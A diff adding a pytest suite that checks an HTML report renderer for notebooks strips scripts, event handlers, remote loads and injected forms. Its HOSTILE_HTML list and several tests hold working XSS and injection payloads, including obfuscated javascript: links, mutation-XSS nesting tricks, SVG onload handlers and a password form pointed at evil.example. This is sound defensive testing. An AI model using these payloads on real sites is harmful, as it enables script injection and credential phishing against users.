@@ -1,0 +1,279 @@
+from __future__ import annotations
+
+from collections.abc import Callable
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+
+from dataops_lab.notebooks import LocalNotebooks
+
+Cells = Callable[..., Any]
+PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg=="
+
+
+def shown(**data: Any) -> dict[str, Any]:
+    mimes = {name.replace("__", "+").replace("_", "/", 1): value for name, value in data.items()}
+    return {"output_type": "display_data", "data": mimes, "metadata": {}}
+
+
+def stream(text: Any, name: str = "stdout") -> dict[str, Any]:
+    return {"output_type": "stream", "name": name, "text": text}
+
+
+class Page(HTMLParser):
+    """What a browser would make of the page, as far as these tests ask."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.html = html
+        self.tags: list[tuple[str, dict[str, str]]] = []
+        self.text = ""
+        self._in_style = False
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, {name: value or "" for name, value in attrs}))
+        self._in_style = tag == "style"
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_style = False
+
+    def handle_data(self, data: str) -> None:
+        self.text += "" if self._in_style else data
+
+    def loads(self) -> list[str]:
+        """Everything that the page would fetch when it is opened."""
+        addresses = [
+            attrs[name]
+            for tag, attrs in self.tags
+            for name in ("src", "srcset", "data", "poster", "background")
+            if name in attrs
+        ]
+        addresses += [attrs.get("href", "") for tag, attrs in self.tags if tag in ("link", "image", "use", "base")]
+        return [address for address in addresses if not address.startswith("data:image/")]
+
+    def runs(self) -> list[str]:
+        tags = [
+            tag
+            for tag, _ in self.tags
+            if tag in ("script", "iframe", "object", "embed", "form", "svg", "math", "link", "base")
+        ]
+        handlers = [name for _, attrs in self.tags for name in attrs if name.startswith("on")]
+        tags += ["meta refresh" for _, attrs in self.tags if attrs.get("http-equiv", "").lower() == "refresh"]
+        links = [attrs["href"] for _, attrs in self.tags if "href" in attrs]
+        return tags + handlers + [link for link in links if not link.startswith(("https://", "mailto:", "#"))]
+
+
+@pytest.fixture
+def page(notebooks: LocalNotebooks, make: Cells) -> Callable[..., Page]:
+    def rendered(*cells: Any, code: bool = True, title: str = "Report", **more: Any) -> Page:
+        return Page(notebooks.report(make(*cells, **more), title=title, code=code).decode())
+
+    return rendered
+
+
+HOSTILE_HTML = [
+    "<script>alert(1)</script>",
+    "<script src='https://evil.example/x.js'></script>",
+    "<SCRIPT\n>alert(1)//",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/pixel.png'>",
+    "<img srcset='https://evil.example/pixel.png 2x'>",
+    "<img src='data:text/html,<script>alert(1)</script>'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href=' \tjava\nscript:alert(1)'>x</a>",
+    "<a href='data:text/html,x'>x</a>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<object data='https://evil.example'></object>",
+    "<embed src='https://evil.example'>",
+    "<link rel='stylesheet' href='https://evil.example/x.css'>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv='refresh' content='0; url=https://evil.example'>",
+    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
+    "<p style=\"background: url('https://evil.example/x.png')\">x</p>",
+    "<div style='position: fixed; inset: 0'>x</div>",
+    "<form action='https://evil.example'><input name=password></form>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video src='https://evil.example/x.mp4' autoplay poster='https://evil.example/p.png'>",
+    "<table background='https://evil.example/x.png'><tr><td>x</table>",
+    "</main></body><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<scr<script>x</script>ipt>alert(1)</script>",
+]
+
+
+@pytest.mark.parametrize("html", HOSTILE_HTML)
+@pytest.mark.parametrize("kind", ["html", "markdown output", "markdown cell"])
+def test_nothing_in_the_page_runs_or_loads(kind: str, html: str, page: Callable[..., Page], code: Cells) -> None:
+    if kind == "markdown cell":
+        it = page({"cell_type": "markdown", "metadata": {}, "source": f"Text\n\n{html}\n"})
+    else:
+        it = page(code("1", outputs=[shown(**{"text_html" if kind == "html" else "text_markdown": html})]))
+    assert it.runs() == []
+    assert it.loads() == []
+    assert "evil.example" not in "".join(str(attrs) for _, attrs in it.tags)
+    assert not any("url(" in attrs.get("style", "") or "position" in attrs.get("style", "") for _, attrs in it.tags)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "![x](https://evil.example/x.png)",
+        "[x](javascript:alert(1))",
+        "<https://evil.example>\n\n![a][b]\n\n[b]: https://evil.example/x.png",
+    ],
+)
+def test_markdown_itself_loads_nothing(source: str, page: Callable[..., Page]) -> None:
+    it = page({"cell_type": "markdown", "metadata": {}, "source": source})
+    assert (it.runs(), it.loads()) == ([], [])
+
+
+def test_scripts_outputs_and_drawings_do_not_run(page: Callable[..., Page], code: Cells) -> None:
+    outputs = [
+        {"output_type": "display_data", "data": {"application/javascript": "alert('ran')"}, "metadata": {}},
+        shown(image_svg__xml="<svg onload='alert(1)'><script>alert('ran')</script></svg>"),
+        shown(image_png="x\" onerror=\"alert('ran')"),
+        shown(text_latex="<script>alert('ran')</script>"),
+        stream("<script>alert('ran')</script>\x1b]8;;https://evil.example\x07link\x1b]8;;\x07"),
+        {
+            "output_type": "error",
+            "ename": "<script>",
+            "evalue": "<img src=x>",
+            "traceback": ["<script>alert('ran')</script>"],
+        },
+    ]
+    it = page(code("<script>alert('ran')</script>", outputs=outputs), title="<script>alert('ran')</script>")
+    assert (it.runs(), it.loads()) == ([], [])
+    assert "<script>alert('ran')</script>" in it.text  # shown as text
+
+
+def test_the_policy_forbids_what_the_cleaning_would_have_missed(page: Callable[..., Page]) -> None:
+    policy = next(
+        attrs["content"] for tag, attrs in page().tags if attrs.get("http-equiv") == "Content-Security-Policy"
+    )
+    assert policy.startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:")
+
+
+@pytest.mark.parametrize("mime", ["image_png", "image_jpeg", "image_gif"])
+def test_figures_are_inside_the_page(mime: str, page: Callable[..., Page], code: Cells) -> None:
+    it = page(code("1", outputs=[shown(**{mime: PIXEL + "\n"})]))
+    assert [a["src"] for tag, a in it.tags if tag == "img"] == [f"data:{mime.replace('_', '/')};base64,{PIXEL}"]
+
+
+def test_a_figure_that_is_none_falls_back_to_its_text(page: Callable[..., Page], code: Cells) -> None:
+    it = page(code("1", outputs=[shown(image_png="<not base64>", text_plain="Figure of size 640x480")]))
+    assert "Figure of size 640x480" in it.text
+
+
+def test_the_title_is_a_heading_where_the_notebook_has_none_of_its_own(page: Callable[..., Page]) -> None:
+    heading = {"cell_type": "markdown", "metadata": {}, "source": "Text\n\n# Sales"}
+    for cells in ((), (heading,)):
+        assert [tag for tag, _ in page(*cells, title="October").tags].count("h1") == 1
+        assert "October" in page(*cells, title="October").text
+
+
+def test_tables_keep_their_shape_and_colours(page: Callable[..., Page], code: Cells) -> None:
+    cell = "<td style='color: red; text-align: right' colspan=2>5</td>"
+    html = f"<style>td {{ color: red }}</style><table border=1 class='dataframe'><tr>{cell}</tr></table>"
+    it = page(code("df", outputs=[shown(text_html=html, text_plain="5")]))
+    assert ("td", {"style": "color: red; text-align: right;", "colspan": "2"}) in it.tags
+    assert "td {" not in it.text
+
+
+def test_an_interactive_plot_falls_back_to_its_picture(page: Callable[..., Page], code: Cells) -> None:
+    plot = shown(text_html="<div id='plot'></div><script>draw()</script>", image_png=PIXEL, text_plain="Figure")
+    it = page(code("fig", outputs=[plot]))
+    assert "img" in [tag for tag, _ in it.tags]
+    assert "draw()" not in it.text
+
+
+def test_recorded_values_show_their_text(page: Callable[..., Page], code: Cells) -> None:
+    value = {"application/vnd.dataops.value+json": {"name": "auc", "value": 0.91}, "text/plain": "auc = 0.91"}
+    it = page(
+        code("record('auc', auc)", outputs=[{"output_type": "display_data", "data": value, "metadata": {}}]), code=False
+    )
+    assert "auc = 0.91" in it.text
+
+
+class TestWithoutCode:
+    def test_sources_prompts_and_the_injected_cell_are_left_out(self, page: Callable[..., Page], code: Cells) -> None:
+        cells = [
+            {"cell_type": "markdown", "metadata": {}, "source": "# Sales"},
+            code("month = 'secret_source'", "injected-parameters"),
+            code("print('secret_source')", execution_count=41, outputs=[stream("Total: 5")]),
+            {"cell_type": "raw", "metadata": {}, "source": "secret_source"},
+        ]
+        with_code, without = page(*cells), page(*cells, code=False)
+        assert "secret_source" in with_code.text and "[41]" in with_code.text
+        assert "secret_source" not in without.html and "[41]" not in without.text
+        assert "Sales" in without.text and "Total: 5" in without.text
+
+    def test_errors_and_warnings_do_not_quote_it(self, page: Callable[..., Page], code: Cells) -> None:
+        error = {
+            "output_type": "error",
+            "ename": "ValueError",
+            "evalue": "no rows",
+            "traceback": ["----> 1 secret_source()"],
+        }
+        cell = code("x", outputs=[stream("  secret_source()\nUserWarning", "stderr"), error])
+        assert "secret_source" in page(cell).text
+        assert "secret_source" not in page(cell, code=False).html
+        assert "ValueError: no rows" in page(cell, code=False).text
+
+
+def test_terminal_colours_are_kept_as_styles(page: Callable[..., Page], code: Cells) -> None:
+    it = page(code("1", outputs=[stream("\x1b[31mred\x1b[0m")]))
+    assert ("span", {"class": "ansi-red-fg"}) in it.tags
+
+
+def test_attached_pictures_of_markdown_are_shown(page: Callable[..., Page]) -> None:
+    cell = {
+        "cell_type": "markdown",
+        "metadata": {},
+        "source": "![a](attachment:a.png)",
+        "attachments": {"a.png": {"image/png": PIXEL}},
+    }
+    assert [a["src"] for tag, a in page(cell).tags if tag == "img"] == [f"data:image/png;base64,{PIXEL}"]
+
+
+@pytest.mark.parametrize(
+    "outputs",
+    [
+        None,
+        "x",
+        [None],
+        [{}],
+        [{"output_type": "display_data"}],
+        [{"output_type": "error", "traceback": "x"}],
+        [shown(text_html=5)],
+        [shown(text_html=["<b>a", "</b>"])],
+        [shown(image_png={})],
+        [stream(None)],
+        [stream([1, "a"])],
+    ],
+)
+def test_outputs_of_any_shape_do_not_break_the_page(outputs: Any, page: Callable[..., Page], code: Cells) -> None:
+    assert (
+        "Report"
+        in page(
+            code("1", outputs=outputs), {"cell_type": "markdown", "metadata": {}, "source": "x", "attachments": 5}
+        ).text
+    )
+
+
+def test_an_empty_notebook_has_a_page_that_says_so(page: Callable[..., Page]) -> None:
+    assert "nothing to show" in page().text
+
+
+def test_half_characters_are_replaced(page: Callable[..., Page], code: Cells) -> None:
+    assert "a?" in page(code("1", outputs=[stream("a\ud800")])).text
+
+
+def test_many_open_tags_end_in_time(page: Callable[..., Page], code: Cells) -> None:
+    assert page(code("1", outputs=[shown(text_html="<script" * 50_000 + "<div>" * 200)])).runs() == []
